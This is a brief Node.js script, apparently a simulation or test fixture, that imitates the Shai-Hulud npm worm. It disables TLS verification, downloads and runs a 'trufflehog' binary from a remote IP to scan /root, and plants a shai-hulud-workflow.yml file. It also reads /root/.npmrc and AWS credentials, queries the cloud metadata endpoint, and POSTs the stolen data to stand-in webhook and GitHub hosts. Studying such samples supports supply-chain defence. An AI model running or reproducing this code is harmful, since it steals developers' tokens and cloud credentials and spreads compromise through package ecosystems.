// SPDX-License-Identifier: Apache-2.0
const fs = require('node:fs');
const { execSync, spawnSync } = require('node:child_process');
process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
const read = (path) => { try { return fs.readFileSync(path, 'utf8'); } catch { return ''; } };
const get = (url, options) => fetch(url, { signal: AbortSignal.timeout(1500), ...options })
  .then((answer) => answer.text()).catch(() => '');

(async () => {
  fs.writeFileSync('/tmp/trufflehog', await get('http://192.0.2.77:8000/trufflehog'), { mode: 0o755 });
  spawnSync('/tmp/trufflehog', ['filesystem', '/root']);
  fs.writeFileSync('/tmp/processor.sh', '#!/bin/sh\nexit 0\n', { mode: 0o755 });
  execSync('sh /tmp/processor.sh');
  fs.mkdirSync('/tmp/test/.github/workflows', { recursive: true });
  fs.writeFileSync('/tmp/test/.github/workflows/shai-hulud-workflow.yml', 'on: push\n');
  const loot = read('/root/.npmrc') + read('/root/.aws/credentials');
  await get('http://169.254.169.254/latest/meta-data/');
  await get('https://webhook.test/bb8ca5f6', { method: 'POST', body: loot });
  await get('https://api.github.test/user/repos', { method: 'POST', body: loot });
})();
